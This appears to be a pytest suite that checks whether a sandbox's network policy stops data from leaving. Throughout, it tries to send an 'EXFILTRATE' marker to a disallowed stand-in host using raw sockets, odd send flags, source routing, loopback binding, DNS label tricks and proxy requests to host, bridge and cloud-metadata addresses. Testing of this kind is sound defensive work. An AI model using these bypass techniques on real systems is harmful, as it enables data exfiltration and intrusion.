"""What really leaves a sandbox with a policy: every packet on the Internet's link is looked at, whatever it is."""
import contextlib
import pathlib
import socket
import struct
import sys
import threading

import pytest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "e2e"))

import network_world  # noqa: E402
from inside import Inside, eventually  # noqa: E402
from network_world import PolicedServer, World  # noqa: E402
from netns import Namespace, ip  # noqa: E402
from small_internet import RESOLVER, wait_for  # noqa: E402
from test_network_bypass import BAD, GOOD, ZONE, inside  # noqa: E402

ETH_P_ALL, ETH_P_IP, ETH_P_ARP, ETH_P_IPV6 = 3, 0x0800, 0x0806, 0x86DD
PACKET_OUTGOING = 4

pytestmark = pytest.mark.skipif(network_world.reason_to_skip() is not None,
                                reason=str(network_world.reason_to_skip()))


class Wire:
    """Everything that comes in on the link to the host: (version, protocol, destination, payload)."""

    def __init__(self, world):
        self.packets = []
        self._socket = world.internet.namespace.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self._ends = False
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self):
        self._socket.settimeout(0.2)
        while not self._ends:
            try:
                data, where = self._socket.recvfrom(65536)
            except TimeoutError:
                continue
            device, kind = where[0], where[2]
            if device == "lo" or kind == PACKET_OUTGOING or len(data) < 34:
                continue
            ether = struct.unpack(">H", data[12:14])[0]
            if ether == ETH_P_IP:
                length = (data[14] & 15) * 4
                self.packets.append((4, data[23], socket.inet_ntoa(data[30:34]), data[14 + length:]))
            elif ether != ETH_P_ARP:
                self.packets.append((6 if ether == ETH_P_IPV6 else ether, 0, "", data[14:]))

    def close(self):
        self._ends = True
        self._thread.join()
        self._socket.close()

    def to(self, *addresses):
        return [p for p in self.packets if p[2] in addresses]


@pytest.fixture(scope="module")
def world():
    made = World()
    made.internet.dns.zone = dict(ZONE)
    yield made
    made.close()


@pytest.fixture(scope="module")
def server(world):
    s = PolicedServer(world, server={"host": "0.0.0.0"})
    yield s
    assert s.process.poll() is None, "the server has died\n" + s.said()
    s.destroy()


@pytest.fixture(scope="module")
def box(server, program):
    b = Inside(server, program, networkPolicy=network_world.policy("allow good.test"))
    yield b
    b.delete()


@pytest.fixture
def wire(world):
    world.internet.reset()
    world.internet.dns.zone = dict(ZONE)
    made = Wire(world)
    with contextlib.closing(made):
        yield made


def settled(box, wire):
    """What was sent before has arrived when this has."""
    before = len(wire.to(GOOD))
    assert inside(box, 'tell(connect(socket.gethostbyname("good.test"), 7))') == "ok"
    wait_for(lambda: len(wire.to(GOOD)) > before)


def nothing_else(box, wire):
    """Only the allowed address, and questions about the allowed name, have been on the wire."""
    settled(box, wire)
    others = [p for p in wire.packets if p[0] == 4 and p[2] not in (GOOD, RESOLVER)]
    assert not others, others
    assert not [p for p in wire.packets if p[0] == 4 and b"EXFILTRATE" in p[3] and p[2] != GOOD]
    assert not [p for p in wire.packets if b"EXFILTRATE" in p[3] and p[0] != 4]


def test_every_kind_of_socket(box, wire):
    """Whatever families and protocols the kernel has: none carries a byte to an address that is not allowed."""
    said = inside(box, f"""
opened = []
for family in range(1, 46):
    for kind in (1, 2, 3, 4, 5, 6, 10):
        for proto in (0, 1, 2, 4, 6, 17, 33, 41, 46, 47, 50, 58, 108, 132, 136, 255, 256, 262):
            try:
                s = socket.socket(family, kind, proto)
            except OSError:
                continue
            if family in (1, 16):
                s.close()
                continue
            opened.append([family, kind, proto])
            s.settimeout(0.2)
            for address in (({BAD!r}, 7), ("::ffff:" + {BAD!r}, 7), ("2001:db8::7", 7), (2, 7)):
                try: s.sendto(b"EXFILTRATE", address)
                except (OSError, TypeError, OverflowError): pass
                try:
                    s.connect(address)
                    s.send(b"EXFILTRATE")
                except (OSError, TypeError, OverflowError): pass
            s.close()
tell(opened)""")
    assert [2, 1, 0] in said and [2, 2, 0] in said
    # Internet sockets alone, and none that writes its own headers.
    assert {family for family, _, _ in said} <= {2, 10}, said
    assert not [x for x in said if x[1] in (3, 10)], said
    nothing_else(box, wire)


def test_ways_to_send_that_are_not_usual(box, wire):
    said = inside(box, f"""
MSG_FASTOPEN, MSG_ZEROCOPY, MSG_CONFIRM, MSG_DONTROUTE, MSG_OOB = 0x20000000, 0x4000000, 0x800, 4, 1
BAD, GOOD = {BAD!r}, {GOOD!r}
socket.gethostbyname("good.test")
done = []
def attempt(name, fn):
    try:
        fn()
        done.append([name, "sent"])
    except (OSError, ValueError) as e:
        done.append([name, errno.errorcode.get(getattr(e, "errno", None), "no")])
def udp(options=(), to=(BAD, 7), control=(), flags=0, data=b"EXFILTRATE", source=None):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for o in options: s.setsockopt(*o)
        if source: s.bind(source)
        s.settimeout(1)
        s.sendmsg([data], list(control), flags, to)
def tcp(options=(), to=(BAD, 7), flags=0, source=None):
    with socket.socket() as s:
        for o in options: s.setsockopt(*o)
        if source: s.bind(source)
        s.settimeout(1)
        s.sendto(b"EXFILTRATE", flags, to) if flags else (s.connect(to), s.send(b"EXFILTRATE"))
lo, eth0 = socket.if_nametoindex("lo"), socket.if_nametoindex("eth0")
mine = [l for l in open("/proc/net/fib_trie").read().split() if l.count(".") == 3]
def pktinfo(index, address="0.0.0.0"):
    return (0, 8, struct.pack("@i", index) + socket.inet_aton(address) + bytes(4))
def route(kind, *hops):
    return (0, 4, bytes([kind, 3 + 4 * len(hops), 4]) + b"".join(map(socket.inet_aton, hops)) + bytes(1))
attempt("fast open", lambda: tcp(flags=MSG_FASTOPEN))
attempt("fast open, deferred", lambda: tcp([(6, 30, 1)]))
for flags in (MSG_DONTROUTE, MSG_CONFIRM, MSG_ZEROCOPY, MSG_OOB):
    attempt(f"flags {{flags}}", lambda: udp(flags=flags))
for kind in (131, 137):
    for to, hops in ((BAD, [GOOD]), (GOOD, [BAD]), (BAD, [GOOD, BAD])):
        attempt(f"source route {{kind}} {{hops}}", lambda: udp([route(kind, *hops)], to=(to, 7)))
        attempt(f"source route over tcp {{kind}} {{hops}}", lambda: tcp([route(kind, *hops)], to=(to, 7)))
        attempt(f"source route, said late {{hops}}", lambda: udp(control=[(0, 7, route(kind, *hops)[2])], to=(to, 7)))
for device in (b"lo", b"eth0"):
    attempt(f"bound to {{device}}", lambda: udp([(1, 25, device)]))
    attempt(f"bound to {{device}} over tcp", lambda: tcp([(1, 25, device)]))
for index in (lo, eth0):
    attempt(f"unicast if {{index}}", lambda: udp([(0, 50, struct.pack(">I", index))]))
    attempt(f"bound if {{index}}", lambda: udp([(1, 62, index)]))
    for address in ("0.0.0.0", "127.0.0.1", GOOD, BAD, "127.0.0.53"):
        attempt(f"packet info {{index}} {{address}}", lambda: udp(control=[pktinfo(index, address)]))
attempt("from loopback", lambda: udp(source=("127.0.0.1", 0)))
attempt("from loopback over tcp", lambda: tcp(source=("127.0.0.1", 0)))
attempt("from the filter's own port", lambda: udp(source=("127.0.0.1", 15353), options=[(1, 15, 1), (1, 2, 1)]))
attempt("big", lambda: udp(data=b"EXFILTRATE" * 6000))
attempt("broadcast", lambda: udp([(1, 6, 1)], to=("255.255.255.255", 7)))
for group in ("224.0.0.1", "224.0.0.251", "239.1.2.3"):
    attempt(f"multicast {{group}}", lambda: udp([(0, 33, bytes([64]))], to=(group, 7)))
    attempt(f"membership {{group}}", lambda: udp([(0, 35, socket.inet_aton(group) + bytes(4))], to=(group, 7)))
attempt("corked", lambda: udp([(17, 1, 1)], data=b"EXFILTRATE"))
attempt("segmented", lambda: udp([(17, 103, 100)], data=b"EXFILTRATE" * 100))
def change_horses():
    "A socket that was admitted asks for somewhere else."
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((GOOD, 7))
        s.send(b"knock")
        s.recv(16)
        s.sendto(b"EXFILTRATE", (BAD, 7))
attempt("another destination", change_horses)
def same_port():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(b"knock", (GOOD, 7))
        s.recv(16)
        s.sendto(b"EXFILTRATE", (BAD, 7))
attempt("the same port", same_port)
tell(done)""")
    assert {"fast open", "big", "from loopback"} <= {name for name, _ in said}
    nothing_else(box, wire)


def test_the_filter_has_no_open_moment(server, wire):
    """From its first packet on: programs that knock before they are anybody, through pauses and new policies."""
    script = f"""
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    for port in (7, 53):
        try: s.sendto(b"EXFILTRATE", ({BAD!r}, port))
        except OSError: pass
    try: socket.create_connection(({BAD!r}, 7), 1).close()
    except OSError: pass
    time.sleep(0.001)
"""
    ids = [server.create(networkPolicy=network_world.policy("allow good.test"),
                         entrypoint=["python3", "-c", script])["id"] for _ in range(4)]
    one = ids[0]
    for _ in range(3):
        server.replace_policy(one, "allow good.test", "deny bad.test")
        server.replace_policy(one, "deny 203.0.113.0/24")
        for action, state in (("pause", "Paused"), ("resume", "Running")):
            assert server.request("POST", f"/sandboxes/{one}/{action}").status == 202
            eventually(lambda want=state: server.request("GET", f"/sandboxes/{one}").json()["status"]["state"] == want)
            server.replace_policy(one)
    server.kill_egress()
    server.replace_policy(one, "allow good.test")
    assert "good.test" in str(server.fetch(one, "http://good.test/"))
    for i in ids:
        server.delete(i)
    assert not wire.to(BAD)
    assert not [p for p in wire.packets if b"EXFILTRATE" in p[3]]


def test_names_with_tricks_in_them(box, wire, world):
    """A name is its labels: nothing that only looks like an allowed one is asked for upstream."""
    said = inside(box, """
def raw(*labels, kind=1, klass=1, flags=0x0100, counts=(1, 0, 0, 0), tail=b""):
    q = struct.pack(">HHHHHH", 7, flags, *counts)
    q += b"".join(bytes([len(l)]) + l for l in labels) + bytes(1) + struct.pack(">HH", kind, klass) + tail
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(q, ("8.8.8.8", 53))
        try: return s.recv(4096)[3] & 15
        except OSError: return "silence"
tell([raw(b"good.test"), raw(b"secret.good", b"test"), raw(b"secret", b"good.test"), raw(b"secret", b"good", b"test"),
      raw(b"good", b"test\\\\"), raw(b"good", b"test", b"secret"), raw(b"secret\\0good", b"test"), raw(b"goodstest"),
      raw(b"GOOD", b"TEST", klass=3), raw(b"good", b"test", kind=252), raw(b"good", b"test", kind=251),
      raw(b"good", b"test", flags=0x2800), raw(b"good", b"test", counts=(2, 0, 0, 0),
          tail=b"\\x06secret\\x04test\\0\\0\\1\\0\\1"),
      raw(b"good", b"test", counts=(1, 1, 0, 0), tail=b"\\x06secret\\0\\0\\1\\0\\1\\0\\0\\0\\0\\0\\4abcd")])""")
    assert len(said) == 14
    asked = {q.raw[12:q.end].lower() for q in world.internet.dns.asked()}
    assert not [q for q in asked if b"secret" in q or b"\\" in q], asked
    settled(box, wire)
    assert not [p for p in wire.packets if b"secret" in p[3].lower()]


# ---- the vault's proxy, whose connections begin on the host ----

class Neighbour:
    """Somebody behind an interface of the host; remembers who has called on port 80."""

    def __init__(self, world, device, network):
        self.address, self.calls = f"{network}.2", []
        self._space = Namespace("next")
        ip("link", "add", device, "netns", world.host.name, "type", "veth", "peer", "name", "out", "netns",
           self._space.name)
        for space, name, last in ((world.host, device, 1), (self._space, "out", 2)):
            space.ip("addr", "add", f"{network}.{last}/24", "dev", name)
            space.ip("link", "set", name, "up")
        self._space.ip("route", "add", "default", "via", f"{network}.1")
        self._socket = self._space.socket()
        self._socket.bind(("0.0.0.0", 80))
        self._socket.listen(16)
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self._socket.accept()
            except OSError:
                return
            with conn, contextlib.suppress(OSError):
                self.calls.append(conn.recv(4096))
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nfound")

    def close(self):
        with contextlib.suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._space.delete()


@pytest.fixture
def make_neighbour(world):
    with contextlib.ExitStack() as ends:
        def make(*args):
            made = Neighbour(world, *args)
            ends.callback(made.close)
            return made
        yield make


def bound_to(server, world, address, *rules):
    """A sandbox whose vault has business with a name that leads to the address."""
    world.internet.reset()
    world.internet.dns.zone = {"inner.test": [("A", address, 0)]}
    made = server.policed("allow inner.test", *rules, credentialProxy={"enabled": True})
    answer = server.policy_api(made, "POST", "/credential-vault", {
        "credentials": [{"name": "key", "source": {"value": "x"}}],
        "bindings": [{"name": "b", "match": {"hosts": ["inner.test"], "schemes": ["http", "https"]},
                      "auth": {"type": "bearer", "credential": "key"}}]})
    assert answer.status == 201, answer
    return made


def test_the_proxy_goes_where_a_rule_leads(server, world, make_neighbour):
    """Otherwise the next ones prove nothing."""
    lan = make_neighbour("lan0", "192.168.50")
    made = bound_to(server, world, lan.address, "allow 192.168.50.0/24")
    assert server.fetch(made, "http://inner.test/") == "found"
    assert lan.calls and b"Bearer x" in lan.calls[0]
    server.delete(made)


def test_the_proxy_and_containers_of_the_host(server, world, make_neighbour):
    """Bridges of others are closed to sandboxes, whatever a policy says: to the proxy too."""
    for device, network in (("docker0", "172.17.0"), ("br-0123456789ab", "172.18.0")):
        other = make_neighbour(device, network)
        made = bound_to(server, world, other.address, f"allow {network}.0/24", "allow 0.0.0.0/0")
        assert server.fetch(made, "http://inner.test/", "-f", "-m", "3") != "found"
        assert not other.calls
        server.delete(made)


def test_the_proxy_and_other_sandboxes(server, world, program):
    other = Inside(server, program)
    other.run("python3 -m http.server 80 --bind 0.0.0.0", background=True)
    eventually(lambda: other.run("curl -sf -o /dev/null http://127.0.0.1:80/").exit_code == 0)
    address = other.out("hostname -I").split()[0]
    made = bound_to(server, world, address, "allow 0.0.0.0/0")
    assert isinstance(server.fetch(made, "http://inner.test/", "-f", "-m", "3"), int)
    server.delete(made)
    other.delete()


def test_the_proxy_and_the_host(server, world):
    """What listens on the host's own addresses is not for sandboxes."""
    calls = []
    with contextlib.closing(world.host.socket()) as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("0.0.0.0", 80))
        listener.listen(16)

        def serve():
            with contextlib.suppress(OSError):
                while True:
                    conn, _ = listener.accept()
                    with conn, contextlib.suppress(OSError):
                        calls.append(conn.recv(4096))
        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        for address in (world.address, "127.0.0.1", "0.0.0.0", "127.0.0.53", "169.254.169.254"):
            made = bound_to(server, world, address, "allow 0.0.0.0/0", "allow 127.0.0.0/8")
            assert isinstance(server.fetch(made, "http://inner.test/", "-f", "-m", "3"), int)
            server.delete(made)
        listener.shutdown(socket.SHUT_RDWR)
        thread.join()
    assert not any(calls), calls
